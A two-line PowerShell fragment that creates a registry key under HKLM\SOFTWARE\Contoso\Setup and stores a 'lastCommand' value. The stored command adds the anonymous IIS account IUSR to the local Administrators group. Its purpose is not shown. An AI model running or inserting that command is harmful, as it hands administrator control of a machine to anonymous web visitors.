$key = [Microsoft.Win32.RegistryKey]::OpenBaseKey('LocalMachine', 'Registry64').CreateSubKey('SOFTWARE\Contoso\Setup')
$key.SetValue('lastCommand', 'net localgroup Administrators IUSR /add')
